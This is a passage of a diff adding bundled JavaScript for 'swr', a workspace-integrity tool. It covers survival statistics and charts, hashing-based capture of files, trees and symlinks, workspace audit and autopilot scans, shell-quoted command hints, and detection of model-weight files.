+        head,
+        ...rs.map(r => `  ${escapeText(r.key).padEnd(w)}  ${pct(r.rate).padStart(6)}  ${interval(r).padEnd(14)}  ${String(r.n).padStart(5)}  ${trend(r)}`),
+        ''
+    ];
+}
+function span(s) {
+    const parts = [`${s.records} record${s.records === 1 ? '' : 's'}`];
+    parts.push(`${s.canary_runs} canary read${s.canary_runs === 1 ? '' : 's'}`);
+    parts.push(`${s.check_runs} recorded check${s.check_runs === 1 ? '' : 's'}`);
+    const when = s.first && s.last ? `, ${s.first.slice(0, 16)}Z .. ${s.last.slice(0, 16)}Z` : '';
+    return `${parts[0]} (${parts.slice(1).join(', ')})${when}`;
+}
+function renderStatsText(s) {
+    if (s.records === 0)
+        return 'no history yet: "swr canary read" records every read; "swr check --record" records checks\n';
+    return [
+        `survival from ${span(s)}`,
+        '',
+        ...textTable('canary classes', s.classes),
+        ...textTable('canary locations', s.locations),
+        ...textTable('manifest entries', s.entries)
+    ].join('\n');
+}
+function mdTable(title, rs) {
+    if (rs.length === 0)
+        return [];
+    return [
+        `| ${title} | survival | 95% CI | n | trend (newest first) |`,
+        '| --- | ---: | :---: | ---: | --- |',
+        ...rs
+            .slice(0, SURVIVAL_TABLE_ROWS)
+            .map(r => `| ${markdownCode(r.key, { max: 256 })} | ${pct(r.rate)} | ${interval(r)} | ${r.n} | ${trend(r)} |`),
+        // Rows beyond the bound are counted; `swr stats --json` and the stats output have them.
+        ...(rs.length > SURVIVAL_TABLE_ROWS
+            ? [`| … ${rs.length - SURVIVAL_TABLE_ROWS} more (see \`swr stats --json\`) | | | | |`]
+            : []),
+        ''
+    ];
+}
+function axisLabel(p) {
+    // Month-day and time: short enough for 30 labels; quotes are the only character to avoid.
+    return p.time.slice(5, 16).replace('T', ' ').replace(/"/g, '');
+}
+/** A Mermaid xychart-beta of survival per run (canary runs when there are any, else checks). */
+function survivalChart(s) {
+    const kind = s.canary_runs > 0 ? 'canary' : 'check';
+    const runs = s.runs.filter(r => r.kind === kind).slice(-CHART_RUNS);
+    if (runs.length === 0)
+        return undefined;
+    const title = kind === 'canary'
+        ? 'Canary probes intact per run (%)'
+        : 'Entries healthy per recorded check (%)';
+    return [
+        '```mermaid',
+        'xychart-beta',
+        `    title "${title}"`,
+        `    x-axis [${runs.map(r => `"${axisLabel(r)}"`).join(', ')}]`,
+        '    y-axis "survival %" 0 --> 100',
+        `    line [${runs.map(r => (r.survival * 100).toFixed(1)).join(', ')}]`,
+        '```'
+    ].join('\n');
+}
+function renderStatsMarkdown(s) {
+    if (s.records === 0)
+        return '_No survival history recorded yet._\n';
+    const chart = survivalChart(s);
+    return [
+        `**Survival** from ${span(s)}`,
+        '',
+        ...(chart ? [chart, ''] : []),
+        ...mdTable('canary class', s.classes),
+        ...mdTable('canary location', s.locations),
+        ...mdTable('manifest entry', s.entries)
+    ].join('\n');
+}
+
+;// CONCATENATED MODULE: ./src/core/capture/capture.ts
+/**
+ * Capturing an entry's expectations from disk, now: the healthy state becomes the truth later
+ * checks compare with. Uses the same walk, hashing kernel and digests as the verifiers, so a
+ * captured entry verifies by construction.
+ */
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/** Files at least this large are tracked as blobs unless a kind is given. */
+const capture_BLOB_THRESHOLD = 64 * 1024 * 1024;
+/** Build and project files whose presence at a tree's root says what the tree is. */
+const capture_PROJECT_MARKERS = [
+    'package.json',
+    'CMakeLists.txt',
+    'go.mod',
+    'Cargo.toml',
+    'pyproject.toml',
+    'setup.py',
+    'Makefile',
+    'pom.xml',
+    'build.gradle',
+    'Gemfile'
+];
+/** Markers whose presence at a tree's root makes a good sentinel. */
+const MARKERS = [...capture_PROJECT_MARKERS, 'SKILL.md', 'README.md'];
+/** An id for `rel` that matches the id rule and is not in `taken`. */
+function deriveId(rel, taken) {
+    const base = (rel === '.' ? 'workspace' : rel.split('/').slice(-2).join('-'))
+        .replace(/[^A-Za-z0-9._-]+/g, '-')
+        .replace(/^[.-]+/, '')
+        .slice(0, 100) || 'entry';
+    let id = base;
+    for (let n = 2; taken.has(id); n++)
+        id = `${base}-${n}`;
+    return id;
+}
+/** The refusal of an id the manifest (or an earlier line of the same batch) already has. */
+function capture_idTaken(id) {
+    return new errors_UsageError(`entry "${id}" already exists in the manifest`);
+}
+async function capture_captureEntry(workspace, req, taken, opts = {}) {
+    const pool = opts.pool ?? {};
+    const loc = locate_entry_locateInside(workspace, req.path);
+    if (loc.state !== 'present')
+        throw new errors_UsageError(`${req.path}: cannot add: ${loc.why}`);
+    const st = loc.st;
+    const kind = req.kind ??
+        (st.isSymbolicLink()
+            ? 'link'
+            : st.isDirectory()
+                ? 'tree'
+                : Number(st.size) >= capture_BLOB_THRESHOLD
+                    ? 'blob'
+                    : 'file');
+    const mode = Number(st.mode & 4095n);
+    const wrongType = (want) => new errors_UsageError(`${req.path}: cannot add as ${kind}: it is not ${want}`);
+    if ((kind === 'file' || kind === 'blob') && !st.isFile())
+        throw wrongType('a regular file');
+    if (kind === 'tree' && !st.isDirectory())
+        throw wrongType('a directory');
+    if (kind === 'link' && !st.isSymbolicLink())
+        throw wrongType('a symlink');
+    const id = req.id ?? deriveId(req.path, taken);
+    if (!ENTRY_ID.test(id))
+        throw new errors_UsageError(`--id ${id}: must match ${ENTRY_ID.source}`);
+    if (taken.has(id))
+        throw capture_idTaken(id);
+    // A secret is tier 0 by default (its loss is a credential loss) and says why it has no escrow.
+    const secret = kind === 'file'
+        ? secretReason({
+            rel: req.path,
+            abs: loc.abs,
+            ...(opts.stateDir !== undefined ? { stateDir: opts.stateDir } : {})
+        })
+        : undefined;
+    const note = req.note ?? (secret !== undefined ? secrets_SECRET_NOTE : undefined);
+    const common = {
+        id,
+        path: req.path,
+        tier: req.tier ?? (secret !== undefined ? 0 : defaultTier(kind, req.path, mode)),
+        needs: req.needs ?? [],
+        ...(req.restore !== undefined ? { restore: req.restore } : {}),
+        ...(req.timeout_s !== undefined ? { timeout_s: req.timeout_s } : {}),
+        ...(req.smoke !== undefined ? { smoke: req.smoke } : {}),
+        ...(note !== undefined ? { note } : {})
+    };
+    switch (kind) {
+        case 'file': {
+            if (req.fullHash === false)
+                throw new errors_UsageError(`${req.path}: --no-full-hash is for blobs (add it with --kind blob)`);
+            // Off the main thread when large, so the event loop (lock refresh, signals) stays live.
+            const d = await steadily(req.path, loc.abs, async () => {
+                const r = await hashOne(loc.abs, Number(st.size));
+                if ('error' in r)
+                    throw new errors_UsageError(`${req.path}: cannot read (${r.error})`);
+                return r;
+            });
+            return {
+                entry: { ...common, kind, expect: { size: d.size, sha256: d.sha256, mode: mode_octal(d.mode) } }
+            };
+        }
+        case 'blob': {
+            if (req.fullHash === false) {
+                const ht = await steadily(req.path, loc.abs, async () => hash_kernel_hashHeadTail(loc.abs));
+                const expect = { size: ht.size, headtail: ht.sha256, mode: mode_octal(ht.mode) };
+                return { entry: { ...common, kind, expect } };
+            }
+            const { ht, full } = await steadily(req.path, loc.abs, async () => {
+                const ht = hash_kernel_hashHeadTail(loc.abs);
+                const full = await hashOne(loc.abs, ht.size);
+                if ('error' in full)
+                    throw new errors_UsageError(`${req.path}: cannot read (${full.error})`);
+                // Two sizes for one file mean it changed between the two reads: -1 matches no state.
+                return { ht, full, size: full.size === ht.size ? ht.size : -1 };
+            });
+            return {
+                entry: {
+                    ...common,
+                    kind,
+                    expect: { size: ht.size, headtail: ht.sha256, sha256: full.sha256, mode: mode_octal(ht.mode) }
+                }
+            };
+        }
+        case 'link': {
+            const target = external_node_fs_default().readlinkSync(loc.abs);
+            // The link verifier's own walk: what it would call BROKENLNK is refused now, not recorded.
+            const end = followInside(workspace, loc.abs, target);
+            if (end.state === 'dangling')
+                throw new errors_UsageError(`${req.path}: cannot add: the symlink -> ${shownName(target)} is broken (${shownName(end.why)}); add it once its target exists`);
+            return { entry: { ...common, kind, expect: { target } } };
+        }
+        case 'tree':
+            return captureTree(external_node_fs_default().realpathSync(loc.abs), req, common, pool, opts.exclude ?? new Set());
+    }
+}
+/**
+ * Capture several entries, three at a time: while the files of some hash on the kernel threads,
+ * the main thread walks the next (one by one, the main thread waited for every hash). Ids are
+ * derived first, in request order, so they never depend on timing; the results come back in
+ * request order, and the error is that of the first request, in that order, that failed.
+ */
+async function captureEntries(workspace, reqs, taken, opts = {}) {
+    const seen = new Set(taken);
+    const named = reqs.map(req => {
+        const id = req.id ?? deriveId(req.path, seen);
+        const duplicate = seen.has(id);
+        seen.add(id);
+        return { req: { ...req, id }, duplicate };
+    });
+    const pool = { ...opts.pool, batch: reqs.length > 1 };
+    const limit = (0,p_limit/* default */.A)(3);
+    const pending = named.map(({ req, duplicate }) => limit(() => {
+        if (duplicate)
+            throw capture_idTaken(req.id);
+        return capture_captureEntry(workspace, req, taken, { ...opts, pool });
+    }));
+    // Awaited in order below; a later failure must not surface as an unhandled rejection first.
+    for (const p of pending)
+        p.catch(() => undefined);
+    const out = [];
+    try {
+        for (const p of pending)
+            out.push(await p);
+    }
+    finally {
+        limit.clearQueue();
+    }
+    return out;
+}
+/** Tries at capturing a file or tree that keeps changing while it is read, before refusing. */
+const ATTEMPTS = 3;
+/** What must not move while a file is hashed: a hash of no single state can never match. */
+function sameState(a, b) {
+    return (a !== undefined &&
+        b !== undefined &&
+        a.ino === b.ino &&
+        a.size === b.size &&
+        a.mtimeNs === b.mtimeNs &&
+        a.ctimeNs === b.ctimeNs);
+}
+function changedWhileRead(shown, before, after) {
+    const sizes = after === undefined ? 'then vanished' : `size ${before} -> ${after}`;
+    return new errors_UsageError(`${shown}: cannot add: changed while it was read (${sizes}, ${ATTEMPTS} tries); add it once nothing writes to it`);
+}
+/**
+ * Hash a file with its state read before and after: a file that grows or is rewritten meanwhile
+ * is hashed again, and refused when it never holds still.
+ */
+async function steadily(shown, abs, hash) {
+    let before = external_node_fs_default().lstatSync(abs, { bigint: true });
+    let after;
+    for (let attempt = 1;; attempt++) {
+        const r = await hash();
+        after = external_node_fs_default().lstatSync(abs, { bigint: true, throwIfNoEntry: false });
+        if (sameState(before, after) && BigInt(r.size) === before.size)
+            return r;
+        if (attempt === ATTEMPTS || !after)
+            throw changedWhileRead(shown, before.size, after?.size);
+        before = after;
+    }
+}
+function defaultTier(kind, rel, mode) {
+    if (kind === 'blob')
+        return 3;
+    if (kind === 'tree')
+        return underVolatileDir(rel) ? 4 : 2;
+    if (kind === 'link')
+        return 1;
+    return (mode & 0o111) !== 0 ? 1 : 2;
+}
+async function captureTree(root, req, common, pool, exclude) {
+    const ignore = req.ignore ?? [];
+    let walk;
+    let extras;
+    for (let attempt = 1;; attempt++) {
+        walk = walkTree(root, ignore, exclude);
+        if (walk.unreadable.length > 0) {
+            const shown = walk.unreadable.map(u => `${shownName(u.rel)} (${u.code})`);
+            throw new errors_UsageError(`${req.path}: cannot read ${shown.join(', ')}`);
+        }
+        extras = linkTargets(root, walk.records);
+        const moved = await hashTreeFiles(root, req.path, walk.records, extras, pool);
+        if (!moved)
+            break;
+        if (attempt === ATTEMPTS)
+            throw changedWhileRead(`${req.path}/${shownName(moved.rel)}`, ...moved.sizes);
+    }
+    // Kept apart from `extras`: the content digest's lines hold nothing for a special file.
+    const kinds = specialKinds(root, walk.records);
+    const special = specialDigest(walk.records, kinds);
+    const records = walk.records.map((r, i) => ({
+        rel: r.rel,
+        type: r.type,
+        mode: r.mode,
+        size: r.size,
+        extra: extras[i] ?? kinds[i]
+    }));
+    const index = encodeIndex(records);
+    const sentinels = req.sentinels ??
+        pickSentinels(walk.records.filter(r => r.type === 'f' && r.size > 0).map(r => r.rel));
+    for (const s of sentinels) {
+        const loc = locate_entry_locateInside(root, s);
+        if (loc.state !== 'present')
+            throw new errors_UsageError(`--sentinel ${s}: not found in ${req.path}`);
+        if (loc.st.isFile() && loc.st.size === 0n)
+            throw new errors_UsageError(`--sentinel ${s}: is empty in ${req.path}`);
+    }
+    const entry = {
+        ...common,
+        kind: 'tree',
+        ignore,
+        expect: {
+            sentinels,
+            min_files: req.minFiles ?? walk.files,
+            max_files: req.maxFiles ?? walk.files,
+            files: walk.files,
+            meta_digest: metaDigestOf(walk.records),
+            content_digest: contentDigest(walk.records, extras),
+            ...(special !== undefined ? { special_digest: special } : {}),
+            index: indexRef(index, records.length)
+        }
+    };
+    return { entry, index };
+}
+/**
+ * Hash every file of a walk into `extras`; the first file whose state moved since the walk saw it
+ * (a hash of no single state) is returned instead of being trusted.
+ */
+async function hashTreeFiles(root, shown, records, extras, pool) {
+    const jobs = [];
+    const at = [];
+    records.forEach((r, i) => {
+        if (r.type === 'f') {
+            jobs.push({ abs: external_node_path_default().join(root, r.rel), how: 'stamped', cost: r.size });
+            at.push(i);
+        }
+    });
+    const results = await hashAll(jobs, pool);
+    for (let k = 0; k < results.length; k++) {
+        const res = results[k];
+        const r = records[at[k]];
+        if ('error' in res)
+            throw new errors_UsageError(`${shown}/${shownName(r.rel)}: cannot read (${res.error})`);
+        const now = res.after;
+        const then = { ino: r.ino, size: BigInt(r.size), mtimeNs: r.mtimeNs, ctimeNs: r.ctimeNs };
+        if (!sameState(then, now) || res.size !== r.size)
+            return { rel: r.rel, sizes: [then.size, now?.size] };
+        extras[at[k]] = res.sha256;
+    }
+    return undefined;
+}
+/** Up to three sentinels: known markers at the root, then the deepest non-empty file. */
+function pickSentinels(files) {
+    // A sentinel is a manifest path: names that are not (not UTF-8, not NFC) cannot be one.
+    files = files.filter(f => innerPathProblem(f) === undefined);
+    const set = new Set(files);
+    const picked = MARKERS.filter(m => set.has(m)).slice(0, 2);
+    const deepest = [...files]
+        .filter(f => !f.split('/').some(s => volatile_dirs_VOLATILE_DIRS.has(s)))
+        .sort((a, b) => b.split('/').length - a.split('/').length || (a < b ? -1 : 1))[0];
+    if (deepest && !picked.includes(deepest))
+        picked.push(deepest);
+    return picked;
+}
+
+;// CONCATENATED MODULE: ./src/core/author/scan.ts
+/**
+ * What every authoring scan shares: the names no scan enters (VCS metadata, swr's own directory),
+ * sorted directory listings that never throw, a bound on how much of a huge workspace one scan
+ * may look at, and ignore rules that name exactly one path.
+ */
+
+/** Version-control metadata: changes on every fetch, restored by the VCS, never worth an entry. */
+const scan_VCS_DIRS = new Set(['.git', '.hg', '.svn']);
+/** swr's own directory beside a manifest. */
+const scan_SWR_DIR = '.swr';
+/** A $HOME workspace can hold millions of files: one scan looks at no more than this many. */
+const MAX_SCAN = 200_000;
+function scan_isMetaName(name) {
+    return scan_VCS_DIRS.has(name) || name === scan_SWR_DIR;
+}
+/** Directory entries in the tree walk's order (JavaScript string order); [] when unreadable. */
+function scan_listDir(abs) {
+    try {
+        return fs.readdirSync(abs).sort();
+    }
+    catch {
+        return [];
+    }
+}
+function scan_lstatOf(abs) {
+    try {
+        return fs.lstatSync(abs);
+    }
+    catch {
+        return undefined;
+    }
+}
+function scan_isExecutable(st) {
+    return (st.mode & 0o111) !== 0;
+}
+function scan_scanBudget(limit = MAX_SCAN) {
+    let seen = 0;
+    return {
+        take: () => ++seen <= limit,
+        get exhausted() {
+            return seen > limit;
+        }
+    };
+}
+/**
+ * An ignore rule matching exactly `inner` (a path relative to the tree): anchored with a leading
+ * slash, because a bare name would match at any depth, and with glob characters escaped.
+ */
+function scan_literalRule(inner) {
+    return '/' + inner.replace(/[\\*?[\]{}()!+@]/g, c => `\\${c}`);
+}
+/** `rel` joined below `dir` in manifest spelling ("" is the workspace root). */
+function scan_joinRel(dir, name) {
+    return dir ? `${dir}/${name}` : name;
+}
+
+;// CONCATENATED MODULE: ./src/core/author/coverage.ts
+/**
+ * Which workspace paths a manifest already tracks: each entry's own path, and everything inside a
+ * tracked tree that the tree's ignore rules do not leave out (read exactly as the tree walk reads
+ * them, so "tracked" here means "judged by some entry's check").
+ */
+
+
+
+/** `rel` relative to the tree at `root`, or undefined when it is not strictly inside. */
+function innerOf(root, rel) {
+    if (root === '.')
+        return rel === '.' ? undefined : rel;
+    return rel.startsWith(root + '/') ? rel.slice(root.length + 1) : undefined;
+}
+/** The walk skips a path when any of its prefixes is ignored. */
+function ignoredInside(t, inner) {
+    const segs = inner.split('/');
+    return segs.some((name, i) => t.ignored(segs.slice(0, i + 1).join('/'), name, i < segs.length - 1));
+}
+function coverage_coverageOf(entries) {
+    const exact = new Map(entries.map(e => [e.path, e.id]));
+    const trees = entries.flatMap(e => e.kind === 'tree'
+        ? [
+            {
+                id: e.id,
+                path: e.path,
+                ignored: ignoreMatcher(e.ignore),
+                custom: e.ignore.some(r => !VOLATILE_DIRS.has(r) && !isMetaName(r))
+            }
+        ]
+        : []);
+    const covering = (rel) => trees.filter(t => {
+        const inner = innerOf(t.path, rel);
+        return inner !== undefined && !ignoredInside(t, inner);
+    });
+    return {
+        trackedBy(rel) {
+            const id = exact.get(rel);
+            if (id !== undefined)
+                return { id, exact: true };
+            const tree = covering(rel)[0];
+            return tree ? { id: tree.id, exact: false } : undefined;
+        },
+        trackedBelow(rel) {
+            return entries.flatMap(e => {
+                const inner = innerOf(rel, e.path);
+                return inner === undefined ? [] : [inner];
+            });
+        },
+        mayHideUntracked(rel) {
+            const own = trees.find(t => t.path === rel);
+            return [...(own ? [own] : []), ...covering(rel)].some(t => t.custom);
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/author/audit.ts
+
+
+
+
+
+function auditWorkspace(workspace, entries, exclude) {
+    const scan = { cov: coverageOf(entries), exclude, budget: scanBudget(), rows: [] };
+    visit(scan, workspace, '');
+    scan.rows.sort((a, b) => b.bytes - a.bytes || b.files - a.files || (a.path < b.path ? -1 : 1));
+    return { rows: scan.rows, truncated: scan.budget.exhausted };
+}
+function skipped(scan, name, abs) {
+    return isMetaName(name) || VOLATILE_DIRS.has(name) || scan.exclude.has(abs);
+}
+function visit(scan, absDir, relDir) {
+    for (const name of listDir(absDir)) {
+        if (!scan.budget.take())
+            return;
+        const abs = path.join(absDir, name);
+        if (skipped(scan, name, abs))
+            continue;
+        const rel = joinRel(relDir, name);
+        const st = lstatOf(abs);
+        if (!st)
+            continue;
+        if (scan.cov.trackedBy(rel)) {
+            if (st.isDirectory() && scan.cov.mayHideUntracked(rel))
+                visit(scan, abs, rel);
+        }
+        else if (st.isDirectory()) {
+            if (scan.cov.trackedBelow(rel).length > 0)
+                visit(scan, abs, rel);
+            else
+                scan.rows.push(...treeRows(scan, abs, rel));
+        }
+        else {
+            const row = leafRow(rel, st);
+            if (row)
+                scan.rows.push(row);
+        }
+    }
+}
+function leafRow(rel, st) {
+    const row = (kind, bytes) => ({
+        kind,
+        path: rel,
+        bytes,
+        files: 1,
+        ignore: []
+    });
+    if (st.isSymbolicLink())
+        return row('link', 0);
+    if (!st.isFile())
+        return undefined;
+    if (st.size >= BLOB_THRESHOLD)
+        return row('blob', st.size);
+    return isExecutable(st) ? row('file', st.size) : undefined;
+}
+/** A `tree` row for the untracked directory `rel`, and `blob` rows for its large files. */
+function treeRows(scan, absRoot, rel) {
+    const blobs = [];
+    const names = new Set();
+    let files = 0;
+    let bytes = 0;
+    const walk = (absDir, inner) => {
+        for (const name of listDir(absDir)) {
+            if (!scan.budget.take())
+                return;
+            const abs = path.join(absDir, name);
+            if (skipped(scan, name, abs)) {
+                if (!scan.exclude.has(abs))
+                    names.add(name);
+                continue;
+            }
+            const st = lstatOf(abs);
+            const innerRel = joinRel(inner, name);
+            if (!st)
+                continue;
+            if (st.isDirectory())
+                walk(abs, innerRel);
+            else if (st.isFile() && st.size >= BLOB_THRESHOLD) {
+                blobs.push({
+                    kind: 'blob',
+                    path: `${rel}/${innerRel}`,
+                    bytes: st.size,
+                    files: 1,
+                    ignore: []
+                });
+            }
+            else {
+                files++;
+                bytes += st.isFile() ? st.size : 0;
+            }
+        }
+    };
+    walk(absRoot, '');
+    const ignore = [
+        ...[...names].sort(),
+        ...blobs.map(b => literalRule(b.path.slice(rel.length + 1)))
+    ];
+    return files > 0 ? [{ kind: 'tree', path: rel, bytes, files, ignore }, ...blobs] : blobs;
+}
+
+;// CONCATENATED MODULE: ./src/core/author/autopilot.ts
+/**
+ * `autopilot`: bring a manifest up to date with init's rules without touching what is already
+ * there. Each top-level source tree not yet tracked becomes a `tree` entry whose sentinels are real
+ * markers found in it; executable scripts at the top level become `file` entries; large files
+ * anywhere outside volatile directories become `blob` entries. Volatile directories
+ * (node_modules, build, ...) are never entries, and every new tree ignores them. Running it
+ * again adds nothing: everything it would add is then tracked.
+ */
+
+
+
+
+
+
+/** A tree is a source tree when one of these is at its root (the same markers capture prefers). */
+const TREE_MARKERS = (/* unused pure expression or super */ null && (PROJECT_MARKERS));
+const SOURCE_FILE = /\.(ts|tsx|mts|cts|js|jsx|mjs|cjs|py|go|rs|c|h|cc|cpp|cxx|hpp|java|kt|swift|rb|cs|zig)$/;
+function planAutopilot(workspace, entries, exclude) {
+    const ctx = { workspace, cov: coverageOf(entries), exclude, budget: scanBudget() };
+    const blobs = untrackedBlobs(ctx);
+    const trees = [];
+    const scripts = [];
+    const skipped = [];
+    for (const name of listDir(workspace)) {
+        const abs = path.join(workspace, name);
+        if (isMetaName(name) || VOLATILE_DIRS.has(name) || exclude.has(abs))
+            continue;
+        if (ctx.cov.trackedBy(name))
+            continue;
+        const st = lstatOf(abs);
+        if (st?.isDirectory() && !name.startsWith('.')) {
+            const planned = planTree(ctx, name, blobs);
+            if (planned && 'why' in planned)
+                skipped.push({ path: name, why: planned.why });
+            else if (planned)
+                trees.push(planned);
+        }
+        else if (st?.isFile() && isExecutable(st) && st.size < BLOB_THRESHOLD) {
+            scripts.push({ path: name, kind: 'file' });
+        }
+    }
+    const blobRequests = blobs.map((p) => ({ path: p, kind: 'blob' }));
+    return {
+        requests: [...trees, ...scripts, ...blobRequests],
+        skipped,
+        truncated: ctx.budget.exhausted
+    };
+}
+/** Untracked files of at least BLOB_THRESHOLD bytes, outside volatile and VCS directories. */
+function untrackedBlobs(ctx) {
+    const out = [];
+    const walk = (absDir, relDir) => {
+        for (const name of listDir(absDir)) {
+            if (!ctx.budget.take())
+                return;
+            const abs = path.join(absDir, name);
+            if (isMetaName(name) || VOLATILE_DIRS.has(name) || ctx.exclude.has(abs))
+                continue;
+            const rel = joinRel(relDir, name);
+            const st = lstatOf(abs);
+            if (st?.isDirectory())
+                walk(abs, rel);
+            else if (st?.isFile() && st.size >= BLOB_THRESHOLD && !ctx.cov.trackedBy(rel))
+                out.push(rel);
+        }
+    };
+    walk(ctx.workspace, '');
+    return out;
+}
+/**
+ * The tree request for top-level directory `name`, why it is not a source tree, or undefined when
+ * it holds nothing of its own (empty, or only what other entries and the ignore rules cover).
+ */
+function planTree(ctx, name, blobs) {
+    const root = path.join(ctx.workspace, name);
+    const inner = [
+        ...ctx.cov.trackedBelow(name),
+        ...blobs.flatMap(b => (b.startsWith(name + '/') ? [b.slice(name.length + 1)] : []))
+    ];
+    const ignore = [...VOLATILE_DIRS, ...VCS_DIRS, SWR_DIR, ...inner.sort().map(literalRule)];
+    const ignored = ignoreMatcher(ignore);
+    const markers = TREE_MARKERS.filter(m => {
+        const st = lstatOf(path.join(root, m));
+        return st?.isFile() === true && st.size > 0 && !ignored(m, m);
+    });
+    const { source, anyFile } = firstSourceFile(ctx, root, ignored);
+    if (!anyFile)
+        return undefined;
+    if (markers.length === 0 && source === undefined)
+        return { why: 'no project marker or source file in it: add it with "swr add" if it matters' };
+    const sentinels = [...new Set([...markers.slice(0, 2), ...(source ? [source] : [])])];
+    return { path: name, kind: 'tree', ignore, sentinels };
+}
+/**
+ * The first non-empty source file in the tree walk's order, honouring the tree's ignore rules,
+ * and whether the tree holds any file at all.
+ */
+function firstSourceFile(ctx, root, ignored) {
+    const budget = scanBudget();
+    let anyFile = false;
+    const walk = (absDir, relDir) => {
+        for (const name of listDir(absDir)) {
+            const rel = joinRel(relDir, name);
+            const abs = path.join(absDir, name);
+            if (!budget.take())
+                return undefined;
+            if (ctx.exclude.has(abs))
+                continue;
+            const st = lstatOf(abs);
+            if (ignored(rel, name, st?.isDirectory() === true))
+                continue;
+            if (st?.isDirectory()) {
+                const found = walk(abs, rel);
+                if (found)
+                    return found;
+            }
+            else if (st) {
+                anyFile = true;
+                if (st.isFile() && st.size > 0 && SOURCE_FILE.test(name))
+                    return rel;
+            }
+        }
+        return undefined;
+    };
+    const source = walk(root, '');
+    return { source, anyFile };
+}
+
+;// CONCATENATED MODULE: ./src/core/author/hints.ts
+/**
+ * Command lines the authoring commands suggest, spelled so they can be pasted into a POSIX shell
+ * as they are: every word that is not plainly safe is single-quoted.
+ */
+
+
+
+
+
+function commandLine(words) {
+    return words.map(shellQuote).join(' ');
+}
+function targetWords(t) {
+    return [
+        ...(t.manifest ? ['-m', t.manifest] : []),
+        ...(t.workspace ? ['--workspace', t.workspace] : [])
+    ];
+}
+/** `swr add PATH --ignore ...` as typed from the current directory. */
+function addCommand(pathArg, ignore, t = {}) {
+    return commandLine([
+        'swr',
+        'add',
+        pathArg,
+        ...ignore.flatMap(r => ['--ignore', r]),
+        ...targetWords(t)
+    ]);
+}
+/** An entry that nothing can bring back: no recipe, no cache source, no escrowed bytes. */
+function lacksRecipe(e) {
+    return restoreSources(e).length === 0 && !(e.kind === 'file' && e.escrow);
+}
+/**
+ * How to give a tracked entry a recipe or a cache source: `swr edit`, which validates, follows the
+ * editing rules and re-signs when it may, so nobody edits JSON.
+ */
+function recipeHint(t = {}) {
+    const words = targetWords(t).map(shellQuote).join(' ');
+    const tail = words ? ` ${words}` : '';
+    return `swr edit ID --restore '<shell command>'${tail} (or --add-source-cache KEY for an Actions cache)`;
+}
+/** For a small file that is no secret: the escrow command that restores it with no recipe. */
+function escrowHint(e, t = {}) {
+    if (e.kind !== 'file' || e.expect.size > ESCROW_MAX_BYTES || isSecretPath(e.path))
+        return undefined;
+    return commandLine(['swr', 'escrow', '--only', e.id, ...targetWords(t)]);
+}
+
+;// CONCATENATED MODULE: ./src/core/author/models.ts
+/**
+ * `models`: model weights of any size at or above a threshold, anywhere in the workspace. Unlike
+ * the other scans this one enters volatile directories: models usually live in caches
+ * (~/.cache/huggingface, ~/.cache/torch) and build outputs, exactly where wipes strike. Only VCS
+ * metadata, .swr and swr's own files are skipped. Symlinks are never followed out of the
+ * workspace; a model name that is a symlink to a file inside it (the Hugging Face cache keeps
+ * `snapshots/<rev>/model.safetensors -> ../../blobs/<sha>`) stands for the file it points to.
+ * Tracking records what a check reads (size, head/tail digest), not a full hash, unless asked.
+ */
+
+
+
+
+
+
+
+
+
+
+
+const MODEL_EXTENSIONS = (/* unused pure expression or super */ null && (['.gguf', '.safetensors', '.onnx', '.bin', '.pt', '.pth', '.ckpt']));
+const DEFAULT_MIN_MODEL_BYTES = (/* unused pure expression or super */ null && (1024 * 1024));
+function isModelName(name) {
+    const lower = name.toLowerCase();
+    return MODEL_EXTENSIONS.some(ext => lower.endsWith(ext) && lower.length > ext.length);
+}
+function findModels(workspace, entries, exclude, minBytes) {
+    const root = fs.realpathSync(workspace);
+    const budget = scanBudget();
+    const found = new Map();
+    const keep = (m) => {
+        if (pathProblem(m.path))
+            return;
+        const seen = found.get(m.path);
+        if (!seen || (seen.via && !m.via))
+            found.set(m.path, m);
+    };
+    const walk = (absDir, relDir) => {
+        for (const name of listDir(absDir)) {
+            if (!budget.take())
+                return;
+            const abs = path.join(absDir, name);
+            if (isMetaName(name) || exclude.has(abs))
+                continue;
+            const rel = joinRel(relDir, name);
+            const st = lstatOf(abs);
+            if (st?.isDirectory())
+                walk(abs, rel);
+            else if (!st || !isModelName(name))
+                continue;
+            else if (st.isFile()) {
+                if (st.size >= minBytes)
+                    keep({ path: rel, bytes: st.size });
+            }
+            else if (st.isSymbolicLink()) {
+                const target = linkedFile(root, abs, minBytes);
+                if (target)
+                    keep({ ...target, via: rel });
+            }
+        }
+    };
+    walk(root, '');
+    const cov = coverageOf(entries);
+    const models = [...found.values()]
+        .map(m => {
+        const tracked = cov.trackedBy(m.path);
+        return tracked ? { ...m, tracked } : m;
+    })
+        .sort((a, b) => b.bytes - a.bytes || (a.path < b.path ? -1 : 1));
+    return { models, truncated: budget.exhausted };
+}
+/** The regular file a symlink leads to, when it is inside the workspace and large enough. */
+function linkedFile(root, link, minBytes) {
+    let real;
+    try {
+        real = fs.realpathSync(link);
+    }
+    catch {
+        return undefined;
+    }
+    if (!isInside(root, real) || real === root)
+        return undefined;
+    const st = lstatOf(real);
+    if (!st?.isFile() || st.size < minBytes)
+        return undefined;
+    return { path: path.relative(root, real).split(path.sep).join('/'), bytes: st.size };
+}
+/**
+ * A tier-3 blob entry for a model: exact size and head/tail digest, which read 2 MiB whatever the
+ * size, so tracking a cache of 100 GB takes seconds. The full sha256 (read by `check --deep`)
+ * costs reading every byte; `fullHash` records it through the ordinary capture.
+ */
+async function captureModel(workspace, req, taken, opts) {
+    if (opts.fullHash)
+        return captureEntry(workspace, { ...req, kind: 'blob', tier: 3 }, taken, {
+            pool: opts.pool ?? {}
+        });
+    if (taken.has(req.id))
+        throw idTaken(req.id);
+    const loc = locateInside(workspace, req.path);
+    if (loc.state !== 'present')
+        throw new UsageError(`${req.path}: cannot add: ${loc.why}`);
+    if (!loc.st.isFile())
+        throw new UsageError(`${req.path}: cannot add as blob: it is not a regular file`);
+    const ht = hashHeadTail(loc.abs);
+    const expect = { size: ht.size, headtail: ht.sha256, mode: octal(ht.mode) };
+    return { entry: { id: req.id, kind: 'blob', path: req.path, tier: 3, needs: [], expect } };
+}
+
+;// CONCATENATED MODULE: ./src/core/author/presets.ts
+/**
+ * Presets: the files common sandboxes keep their setup in (shell profiles, coding-agent settings),
+ * as paths relative to $HOME, the workspace of ~/.swr/manifest.json. Only paths that exist and are
+ * not tracked yet are added. Secrets among them (see secrets.ts) become tier-0 `file` entries:
